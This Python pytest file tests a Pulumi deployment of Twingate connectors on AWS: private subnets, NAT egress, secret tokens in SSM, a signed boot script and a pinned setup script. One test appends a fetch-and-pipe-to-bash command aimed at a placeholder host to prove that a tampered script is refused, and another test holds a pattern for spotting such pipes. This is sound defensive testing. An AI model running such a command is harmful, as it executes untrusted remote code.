"""Twingate connectors: two single-instance groups behind the NAT, tokens kept secret."""

import ast
import base64
import copy
import hashlib
import json
import re
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pulumi
import pytest

from components.planning.errors import SettingsError
from components.planning.fields import Section
from components.planning.twingate_settings import parse_twingate
from components.twingate_connectors import _is_private_range
from offline.cost import estimate, remote_access_monthly
from offline.evaluate import reveal, run_program, stack_config
from tests.harness import is_secret

ASG = "aws:autoscaling/group:Group"
TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate"
TOKENS = "twingate:index/twingateConnectorTokens:TwingateConnectorTokens"
PARAM = "aws:ssm/parameter:Parameter"
RESOURCE = "twingate:index/twingateResource:TwingateResource"
GROUP = "twingate:index/twingateGroup:TwingateGroup"
SG = "aws:ec2/securityGroup:SecurityGroup"

SETTINGS = {
    "enabled": True,
    "amiId": "ami-0123456789abcdef0",  # Twingate's connector image (the mocks' default answer)
    "securityPolicy": "Require MFA",
    "groups": ["engineering", "partner-ops"],
    "resources": [
        {"name": "partner-portal", "address": "portal.partner.example.com", "ports": ["443", "8443"],
         "groups": ["partner-ops"]},
        {"name": "build-db", "address": "10.10.128.10", "ports": [5432], "securityPolicy": "Admins on managed devices"},
    ],
}
AL2023 = "ami-0fedcba9876543210"
AL2023_IMAGE = {"ownerId": "137112412989", "name": "al2023-ami-2023.9.20260501.0-kernel-6.1-x86_64",
                "rootDeviceName": "/dev/xvda"}
FAKE_SETUP = 'env | grep ^TWINGATE_ > "$SEEN"\n'
FAKE_SETUP_SHA256 = hashlib.sha256(FAKE_SETUP.encode()).hexdigest()


def deploy(preview=False, **changes):
    config = copy.deepcopy(stack_config("dev"))
    config["multicloud-vpn:twingate"] = {**SETTINGS, **changes}
    config["twingate:apiToken"] = "tw-api-token-secret"
    config["twingate:network"] = "example"
    return run_program(config, stack="dev", preview=preview, amis={AL2023: AL2023_IMAGE})


@pytest.fixture(scope="module")
def d():
    return deploy()


@pytest.fixture(scope="module")
def d_script():
    """A plain Amazon Linux image, and Twingate's setup.sh pinned by its SHA-256."""
    return deploy(amiId=AL2023, setupScriptSha256=FAKE_SETUP_SHA256.upper())


def test_two_groups_of_exactly_one_instance_in_private_subnets_of_two_zones(d):
    groups = d.of_type(ASG)
    assert len(groups) == 2
    private = {s.id: s for s in d.of_type("aws:ec2/subnet:Subnet") if s.name.startswith("aws-network-private")}
    zones = set()
    for g in groups:
        assert (g.get("minSize"), g.get("maxSize"), g.get("desiredCapacity")) == (1, 1, 1)
        (subnet,) = g.get("vpcZoneIdentifiers")
        assert subnet in private
        zones.add(private[subnet].get("availabilityZone"))
    assert len(zones) == 2


def test_egress_goes_through_the_nat(d):
    nat = d.of_type("aws:ec2/natGateway:NatGateway")[0].id
    associations = d.of_type("aws:ec2/routeTableAssociation:RouteTableAssociation")
    tables = {a.get("subnetId"): a.get("routeTableId") for a in associations}
    defaults = {r.get("routeTableId"): r.get("natGatewayId") for r in d.of_type("aws:ec2/route:Route")
                if r.get("destinationCidrBlock") == "0.0.0.0/0"}
    for g in d.of_type(ASG):
        assert defaults[tables[g.get("vpcZoneIdentifiers")[0]]] == nat


def test_distinct_token_pairs_kept_secret_and_out_of_the_launch_templates(d):
    tokens = d.of_type(TOKENS)
    assert len(tokens) == 2
    pairs = [(reveal(t.state["accessToken"]), reveal(t.state["refreshToken"])) for t in tokens]
    assert len({p for pair in pairs for p in pair}) == 4
    params = d.of_type(PARAM)
    assert len(params) == 4 and all(is_secret(p.inputs["value"]) for p in params)
    assert all(p.get("type") == "SecureString" for p in params)
    assert {reveal(p.inputs["value"]) for p in params} == {p for pair in pairs for p in pair}
    for template in d.of_type(TEMPLATE):
        script = base64.b64decode(template.get("userData")).decode()
        assert not any(secret in script for pair in pairs for secret in pair)
        assert "TWINGATE_URL=https://example.twingate.com" in script
        assert template.get("metadataOptions")["httpTokens"] == "required"
    flat = repr(reveal(d.outputs))
    assert not any(secret in flat for pair in pairs for secret in pair)
    assert "tw-api-token-secret" not in flat


def test_each_connector_reads_only_its_own_tokens(d):
    policies = [p for p in d.of_type("aws:iam/rolePolicy:RolePolicy") if p.name.startswith("twingate-")]
    assert len(policies) == 2
    seen = []
    for p in policies:
        statement = json.loads(p.get("policy"))["Statement"]
        assert [s["Action"] for s in statement] == ["ssm:GetParameter"]
        seen.append(tuple(sorted(statement[0]["Resource"])))
    assert len(set(seen)) == 2 and not set(seen[0]) & set(seen[1])


def test_security_group_admits_nothing_and_sends_only_what_twingate_needs(d):
    sg = next(s for s in d.of_type(SG) if s.name == "twingate-connector-sg")
    assert sg.get("ingress") in ([], None)
    open_to_all = {(r["protocol"], r["fromPort"], r["toPort"]) for r in sg.get("egress")
                   if "0.0.0.0/0" in r["cidrBlocks"]}
    assert open_to_all == {("tcp", 443, 443), ("tcp", 30000, 31000), ("tcp", 8443, 8443)}
    internal = [r for r in sg.get("egress") if r["protocol"] == "-1"]
    assert internal and "0.0.0.0/0" not in internal[0]["cidrBlocks"]


def test_resources_and_group_access_as_configured(d):
    groups = {g.get("name"): g.id for g in d.of_type(GROUP)}
    assert set(groups) == {"engineering", "partner-ops"}
    resources = {r.get("name"): r for r in d.of_type(RESOURCE)}
    portal = resources["partner-portal"]
    assert [a["groupId"] for a in portal.get("accessGroups")] == [groups["partner-ops"]]
    assert portal.get("protocols")["tcp"] == {"policy": "RESTRICTED", "ports": ["443", "8443"]}
    db = resources["build-db"]
    assert {a["groupId"] for a in db.get("accessGroups")} == set(groups.values())
    assert all(r.get("remoteNetworkId") for r in d.of_type(RESOURCE))
    assert set(resources) == {"partner-portal", "build-db"}  # no private range unless asked for


def test_private_ranges_are_resources_for_every_group_only_when_asked():
    d = deploy(includePrivateRanges=True)
    groups = {g.id for g in d.of_type(GROUP)}
    ranges = [r for r in d.of_type(RESOURCE) if r.name.startswith("twingate-range-")]
    assert {r.get("address") for r in ranges} == {"10.10.0.0/16", "10.110.0.0/20", "10.111.0.0/20"}
    for r in ranges:
        assert {a["groupId"] for a in r.get("accessGroups")} == groups
        assert r.get("securityPolicyId") == policy_ids(d)["Require MFA"]
    assert parse_twingate(Section(TG, {"enabled": False})).include_private_ranges is False


SECURITY_POLICY = "twingate:index/getTwingateSecurityPolicy:getTwingateSecurityPolicy"


def policy_ids(d) -> dict:
    """Each security policy the program looked up, by name, and the id the lookup answered."""
    from offline.evaluate import CloudMocks
    mocks = CloudMocks(stack="dev")
    return {args["name"]: mocks.call(SimpleNamespace(token=token, args=args, provider=None))[0]["id"]
            for token, args in d.calls if token == SECURITY_POLICY}


def test_every_resource_uses_its_security_policy_looked_up_once_by_name(d):
    ids = policy_ids(d)
    assert sorted(ids) == ["Admins on managed devices", "Require MFA"]
    assert [t for t, _ in d.calls].count(SECURITY_POLICY) == 2
    resources = {r.get("name"): r for r in d.of_type(RESOURCE)}
    assert resources["partner-portal"].get("securityPolicyId") == ids["Require MFA"]  # the section's
    assert resources["build-db"].get("securityPolicyId") == ids["Admins on managed devices"]  # its own


def test_without_a_security_policy_resources_use_the_networks_default():
    d = deploy(securityPolicy=None)
    policies = {r.get("name"): r.get("securityPolicyId") for r in d.of_type(RESOURCE)}
    assert policies["partner-portal"] is None and policies["build-db"] == policy_ids(d)["Admins on managed devices"]


def test_twingate_resources_use_the_explicit_provider(d):
    provider = next(r for r in d.resources if r.type == "pulumi:providers:twingate")
    assert reveal(provider.inputs["network"]) == "example"
    assert is_secret(provider.inputs["apiToken"])
    for r in d.resources:
        if r.type.startswith("twingate:index"):
            assert r.provider.startswith(provider.urn)


def test_cost_counts_connectors_and_seats(d):
    items = {i.item: i for i in estimate(d, "ap-northeast-1", "asia-northeast1")}
    assert items["EC2 instances t3.micro (Twingate connectors)"].quantity == 2
    assert items["Twingate Business (10 users)"].monthly == 100.0


def test_remote_access_comparison():
    ten, fifty = (remote_access_monthly(n, "ap-northeast-1") for n in (10, 50))
    assert ten["twingate"] < ten["clientVpn"]
    assert fifty["twingate"] > fifty["clientVpn"]


def test_off_by_default():
    d = run_program(stack_config("dev"), stack="dev")
    assert not [r for r in d.resources if r.type.startswith("twingate:")]
    assert not d.of_type(ASG)


# --- resource addresses -------------------------------------------------------------------------

TG = "multicloud-vpn:twingate"


def parse_address(address):
    return parse_twingate(Section(TG, {"enabled": True, "groups": ["eng"], "amiId": "ami-0123456789abcdef0",
                                       "resources": [{"name": "p", "address": address}]}))


def address_error(address) -> str:
    with pytest.raises(SettingsError) as caught:
        parse_address(address)
    message = str(caught.value)
    assert message.startswith(f"{TG}.resources[0].address: {address!r} is not accepted; expected a DNS name"), message
    assert "an IPv4 address" in message and "an IPv4 CIDR" in message, message
    return message


@pytest.mark.parametrize("address", ["2001:db8::1", "2001:db8::/64", "2001:db8::1/64", "::ffff:10.0.0.1"])
def test_ipv6_addresses_are_refused_because_the_vpc_and_nat_are_ipv4_only(address):
    assert "IPv6 is refused: the VPC and its NAT gateway are IPv4-only" in address_error(address)


@pytest.mark.parametrize("address,why", [
    ("10.0.0.300", "0-255"), ("10.0.0", "0-255"), ("010.0.0.1", "0-255"), ("10.0.0.1.", "0-255"),
    ("10.0.0.1/16", "host bits zero"), ("10.0.0.0/33", "0-32"), ("10.0.0.0/x", "0-32"),
    ("portal.example.com:443", "a port goes in ports"), ("portal..example.com", "CIDR (10.20.0.0/16)"),
    ("-portal.example.com", "CIDR (10.20.0.0/16)"), ("portal example.com", "CIDR (10.20.0.0/16)"),
    ("host.1", "CIDR (10.20.0.0/16)"), ("a" * 64 + ".example.com", "CIDR (10.20.0.0/16)"),
])
def test_malformed_addresses_are_refused_not_taken_for_dns_names(address, why):
    message = address_error(address)
    assert why in message and "IPv6" not in message


def test_dns_names_ipv4_addresses_and_cidrs_are_accepted():
    for address in ("portal.example.com", "portal.example.com.", "*.example.com", "db", "10.20.0.5",
                    "10.20.0.0/16", "0.0.0.0/0"):
        assert parse_address(f" {address} ").resources[0].address == address


def test_private_range_check_does_not_raise_on_another_ip_version():
    assert not _is_private_range("2001:db8::/64", ["10.10.0.0/16"])
    assert not _is_private_range("portal.example.com", ["10.10.0.0/16"])
    assert _is_private_range("10.10.128.10", ["10.110.0.0/20", "10.10.0.0/16"])


# --- the boot script: bash, curl and python3 only -----------------------------------------------

SUITE_SECRET = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY"  # AWS Signature Version 4 test suite
SUITE_DATE = "20150830T123600Z"
SUITE_TOKEN = ("AQoDYXdzEPT//////////wEXAMPLEtc764bNrC9SAPBSM22wDOk4x4HIZ8j4FZTwdQWLWsKWHGBuFqwAeMicRXmxfpSPfIe"
               "oIYRqTflfKD8YUuwthAx7mSEI/qkPpKPi/kMcGdQrmGdeehM4IC1NtBmUpp2wUE8phUZampKsburEDy0KPkyQDYwT7WZ0wq"
               "5VSXDvp75YU9HFvlRd8Tx6q6fE8YQcHNVXAkiY9q6d+xo0rKwT38xVqr7ZD0u0iPPkUL64lIZbqBAz+scqKmlzm8FDrypN"
               "C9Yjc8fPOLn9FX9KSYvKTr4rvx3iSIlTJabIQwj2ICCR/oLxBA==")
ROLE = {"Code": "Success", "AccessKeyId": "ASIAFAKEROLEKEY", "SecretAccessKey": "fake/role+secret",
        "Token": "fake-session-token"}


@pytest.fixture(scope="module")
def script(d):
    return base64.b64decode(d.of_type(TEMPLATE)[0].get("userData")).decode()


def program(script: str) -> str:
    match = re.search(r"<<'PY'\n(.*?)\nPY\n", script, re.S)
    assert match, script
    return match.group(1)


def load(script: str) -> dict:
    """The embedded program as a module: endpoints are read from the environment when it loads."""
    namespace = {"__name__": "get_parameter"}
    exec(compile(program(script), "<boot script>", "exec"), namespace)
    return namespace


def region(script: str) -> str:
    return re.search(r'python3 -I - (\S+) "\$1"', script).group(1)


def parameters(script: str) -> list[str]:
    return re.findall(r'"\$\(get (\S+)\)"', script)


@pytest.mark.parametrize("method,headers,body,signed,signature", [
    ("GET", {}, b"", "host;x-amz-date",  # get-vanilla
     "5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31"),
    ("POST", {}, b"", "host;x-amz-date",  # post-vanilla
     "5da7c1a2acd57cee7505fc6676e4e544621c30862966e37dddb68e92efbe5d6b"),
    ("POST", {"Content-Type": "application/x-www-form-urlencoded"}, b"Param1=value1",  # post-x-www-form-urlencoded
     "content-type;host;x-amz-date", "ff11897932ad3f4e8b18135d722051e5ac45fc38421b1da7b9d196a0fe09473a"),
    ("POST", {"X-Amz-Security-Token": SUITE_TOKEN}, b"",  # post-sts-header-before
     "host;x-amz-date;x-amz-security-token", "85d96828115b5dc0cfc3bd16ad9e210dd772bbebba041836c64533a82be05ead"),
])
def test_boot_script_signs_like_the_aws_sigv4_test_suite(script, method, headers, body, signed, signature):
    got = load(script)["sign"](method, "example.amazonaws.com", {"X-Amz-Date": SUITE_DATE, **headers}, body,
                               "AKIDEXAMPLE", SUITE_SECRET, "us-east-1", "service", SUITE_DATE)
    assert got == ("AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, "
                   f"SignedHeaders={signed}, Signature={signature}")


class FakeAws(BaseHTTPRequestHandler):
    """IMDSv2 and SSM GetParameter on one local port, refusing what the real endpoints would refuse."""

    def log_message(self, *args) -> None:
        pass

    def reply(self, code: int, body: str = "") -> None:
        self.send_response(code)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body.encode())

    def failing(self, step: str) -> bool:
        left = self.server.failures.get(step, 0)
        self.server.failures[step] = left - 1
        return left > 0

    def do_PUT(self) -> None:
        ttl = self.headers.get("X-aws-ec2-metadata-token-ttl-seconds")
        self.reply(200, "imds-session") if self.path == "/latest/api/token" and ttl else self.reply(400)

    def do_GET(self) -> None:
        base = "/latest/meta-data/iam/security-credentials/"
        if self.headers.get("X-aws-ec2-metadata-token") != "imds-session":
            self.reply(401)
        elif self.path == base and not self.failing("role"):
            self.reply(200, "connector-role")
        elif self.path == base + "connector-role":
            self.reply(200, json.dumps(ROLE))
        else:
            self.reply(404, "<html>Not Found</html>")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        sent = {k: self.headers[k] for k in ("Content-Type", "X-Amz-Target", "X-Amz-Date", "X-Amz-Security-Token")}
        # what was signed must be exactly what was sent: the Host with its port, these headers, the body
        expected = self.server.sign("POST", self.headers["Host"], sent, body, ROLE["AccessKeyId"],
                                    ROLE["SecretAccessKey"], self.server.region, "ssm", sent["X-Amz-Date"])
        request = json.loads(body)
        if (sent["X-Amz-Target"], sent["Content-Type"], sent["X-Amz-Security-Token"]) != (
                "AmazonSSM.GetParameter", "application/x-amz-json-1.1", ROLE["Token"]) \
                or self.headers["Authorization"] != expected or request["WithDecryption"] is not True:
            self.reply(400, json.dumps({"__type": "InvalidSignatureException"}))
        elif self.failing("ssm"):
            self.reply(400, json.dumps({"__type": "AccessDeniedException", "Message": "not yet"}))
        else:
            self.server.read.append(request["Name"])
            self.reply(200, json.dumps({"Parameter": {"Name": request["Name"], "Value": secret(request["Name"])}}))


def secret(name: str) -> str:
    return "tok/" + name.rsplit("/", 1)[-1] + "+=="


@pytest.fixture
def fake_aws(script):
    server = ThreadingHTTPServer(("127.0.0.1", 0), FakeAws)
    server.sign, server.region, server.failures, server.read = load(script)["sign"], region(script), {}, []
    thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    server.url = f"http://127.0.0.1:{server.server_address[1]}"
    yield server
    server.shutdown()
    server.server_close()


def run_boot(script: str, tmp_path: Path, **env) -> subprocess.CompletedProcess:
    """The user data under bash in tmp_path: fake `systemctl` and `curl` (which serves FAKE_SETUP)
    first on PATH, unless a test brings its own, and the connector's configuration directory in
    tmp_path, never this machine's /etc/twingate."""
    bin_dir = tmp_path / "bin"
    if not (bin_dir / "systemctl").exists():
        fake_command(bin_dir, "systemctl", 'echo "$*" >> "$TMP_ROOT/systemctl"\n')
    if not (bin_dir / "curl").exists():
        fake_command(bin_dir, "curl", 'printf "%s" "$*" > "$TMP_ROOT/curl.args"\n'
                                      'while [ "$1" != -o ]; do shift; done\n'
                                      'printf "%s" "$FAKE_SETUP" > "$2"\n')
    path = f"{bin_dir}:{Path(sys.executable).parent}:/usr/bin:/bin"
    env = {"PATH": path, "TMP_ROOT": str(tmp_path), "FAKE_SETUP": FAKE_SETUP, "SEEN": str(tmp_path / "setup-env"),
           "MULTICLOUD_VPN_TWINGATE_DIR": str(tmp_path / "etc-twingate"), **env}
    return subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, timeout=10)


def fake_command(bin_dir: Path, name: str, body: str) -> None:
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / name).write_text("#!/bin/bash\n" + body)
    (bin_dir / name).chmod(0o755)


def test_boot_script_configures_and_starts_the_connector_the_image_comes_with(script, fake_aws, tmp_path):
    result = run_boot(script, tmp_path, MULTICLOUD_VPN_IMDS=fake_aws.url, MULTICLOUD_VPN_SSM=fake_aws.url)
    assert result.returncode == 0, result.stderr
    access, refresh = parameters(script)
    assert fake_aws.read == [access, refresh]
    conf = tmp_path / "etc-twingate" / "connector.conf"
    assert conf.read_text().splitlines() == [
        "TWINGATE_URL=https://example.twingate.com", f"TWINGATE_ACCESS_TOKEN={secret(access)}",
        f"TWINGATE_REFRESH_TOKEN={secret(refresh)}", "TWINGATE_LABEL_DEPLOYED_BY=multicloud-vpn"]
    assert conf.stat().st_mode & 0o777 == 0o600 and conf.parent.stat().st_mode & 0o777 == 0o700
    assert (tmp_path / "systemctl").read_text() == "enable --now twingate-connector\n"
    assert not (tmp_path / "curl.args").exists()  # nothing is downloaded at boot
    assert "tok/" not in result.stdout + result.stderr


@pytest.fixture(scope="module")
def setup_script(d_script):
    return base64.b64decode(d_script.of_type(TEMPLATE)[0].get("userData")).decode()


def test_boot_script_runs_setup_sh_only_when_it_matches_its_sha256(setup_script, fake_aws, tmp_path):
    result = run_boot(setup_script, tmp_path, MULTICLOUD_VPN_IMDS=fake_aws.url, MULTICLOUD_VPN_SSM=fake_aws.url)
    assert result.returncode == 0, result.stderr
    access, refresh = parameters(setup_script)
    assert dict(line.split("=", 1) for line in (tmp_path / "setup-env").read_text().splitlines()) == {
        "TWINGATE_NETWORK": "example", "TWINGATE_ACCESS_TOKEN": secret(access),
        "TWINGATE_REFRESH_TOKEN": secret(refresh), "TWINGATE_LABEL_DEPLOYED_BY": "multicloud-vpn"}
    args = (tmp_path / "curl.args").read_text().split()
    assert args[:4] == ["-fsSL", "--proto", "=https", "--tlsv1.2"]
    assert args[-1] == "https://binaries.twingate.com/connector/setup.sh"
    assert FAKE_SETUP_SHA256 in setup_script  # as given, in lower case
    assert "tok/" not in result.stdout + result.stderr


def test_a_changed_setup_sh_is_not_run_and_no_token_is_read(setup_script, fake_aws, tmp_path):
    result = run_boot(setup_script, tmp_path, FAKE_SETUP=FAKE_SETUP + "curl https://elsewhere | bash\n",
                      MULTICLOUD_VPN_IMDS=fake_aws.url, MULTICLOUD_VPN_SSM=fake_aws.url)
    assert result.returncode == 1
    assert "does not match twingate.setupScriptSha256" in result.stderr
    assert not (tmp_path / "setup-env").exists() and fake_aws.read == []


@pytest.mark.parametrize("mode", ["image", "setup"])
@pytest.mark.parametrize("failing", ["access-token", "refresh-token"])
def test_boot_script_stops_before_the_connector_starts_when_a_token_cannot_be_read(
        script, setup_script, tmp_path, mode, failing):
    bin_dir = tmp_path / "bin"
    # python3 -I - REGION NAME: fail for one parameter, as the real program does after its retries
    fake_command(bin_dir, "python3", 'cat > /dev/null\n[[ "$4" == */"$FAIL" ]] && exit 1\necho token\n')
    result = run_boot(script if mode == "image" else setup_script, tmp_path, FAIL=failing)
    assert result.returncode != 0
    assert not (tmp_path / "setup-env").exists() and not (tmp_path / "systemctl").exists()
    assert not (tmp_path / "etc-twingate" / "connector.conf").exists()


@pytest.mark.parametrize("failures,slept,exit_code", [
    ({"role": 2}, [1, 2], 0),  # the instance profile is not attached yet
    ({"ssm": 1}, [1], 0),  # the role's policy has not propagated yet
    ({"role": 99}, [1, 2, 4, 8, 16], 1),  # give up after six attempts, about half a minute
])
def test_token_read_retries_with_backoff_and_never_logs_the_value(script, fake_aws, monkeypatch, capsys,
                                                                   failures, slept, exit_code):
    monkeypatch.setenv("MULTICLOUD_VPN_IMDS", fake_aws.url)
    monkeypatch.setenv("MULTICLOUD_VPN_SSM", fake_aws.url)
    pauses = []
    monkeypatch.setattr(time, "sleep", pauses.append)
    fake_aws.failures.update(failures)
    name = parameters(script)[0]
    assert load(script)["main"](region(script), name) == exit_code
    out, err = capsys.readouterr()
    assert pauses == slept
    assert out == (secret(name) + "\n" if exit_code == 0 else "")
    assert err.count(f"reading {name} failed (HTTP ") == len(slept) + (exit_code != 0)
    assert ("AccessDeniedException" in err) == ("ssm" in failures) and "Not Found" not in err
    assert "tok/" not in err and ROLE["SecretAccessKey"] not in err and ROLE["Token"] not in err


@pytest.mark.parametrize("mode", ["image", "setup"])
def test_boot_script_needs_only_bash_coreutils_curl_and_python3(script, setup_script, mode):
    script = script if mode == "image" else setup_script
    assert "aws ssm" not in script and not re.search(r"^\s*aws\s", script, re.M)
    assert script.startswith("#!/bin/bash\nset -euo pipefail\n") and "set -x" not in script
    subprocess.run(["bash", "-n"], input=script, text=True, check=True, timeout=5)
    tree = ast.parse(program(script), feature_version=(3, 8))  # Ubuntu 20.04's python3
    imported = {a.name.split(".")[0] for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
    assert imported <= sys.stdlib_module_names and not any(isinstance(n, ast.ImportFrom) for n in ast.walk(tree))
    assert "169.254.169.254" in script and "AmazonSSM.GetParameter" in script
    assert len(script.encode()) < 8 * 1024  # EC2 takes at most 16 KB of user data
    assert not re.search(r"\|\s*(sudo\s+)?(ba)?sh\b", script)  # nothing downloaded is piped into a shell
    assert ("curl" in script) == (mode == "setup")


# --- the image: pinned, and its root volume encrypted ------------------------------------------

@pytest.mark.parametrize("fixture,device", [("d", "/dev/sda1"), ("d_script", "/dev/xvda")])
def test_launch_templates_encrypt_the_images_root_device(request, fixture, device):
    d = request.getfixturevalue(fixture)
    for template in d.of_type(TEMPLATE):
        assert template.get("blockDeviceMappings") == [
            {"deviceName": device, "ebs": {"encrypted": "true", "volumeType": "gp3", "deleteOnTermination": "true"}}]
    looked_up = [a for t, a in d.calls if t == "aws:ec2/getAmi:getAmi"]
    assert looked_up == [{"filters": [{"name": "image-id", "values": [template.get("imageId")]}]}]


@pytest.mark.parametrize("preview", [False, True])
def test_the_volume_policy_holds_for_the_connectors(preview):
    from offline.summary import views
    from policy.rules import run_rules
    d = deploy(preview=preview)
    found = [v for v in run_rules(views(d), "dev") if v.policy == "volumes-encrypted"]
    assert found == [] and len(d.of_type(TEMPLATE)) == 2


def test_an_image_that_is_not_twingates_without_a_setup_script_is_a_warning(monkeypatch):
    said: list[str] = []
    monkeypatch.setattr(pulumi.log, "warn", lambda message, *a, **k: said.append(message)
                        if "twingate" in message else None)
    deploy(amiId=AL2023)
    assert said == [f"multicloud-vpn:twingate.amiId: {AL2023} is {AL2023_IMAGE['name']!r} of account 137112412989, "
                    "not Twingate's connector image (account 617935088040, twingate/images/hvm-ssd/twingate-amd64-*): "
                    "unless it has the connector installed, the connectors never start; set setupScriptSha256 "
                    "to install it at boot"]
    said.clear()
    deploy()
    deploy(amiId=AL2023, setupScriptSha256=FAKE_SETUP_SHA256)
    assert said == []
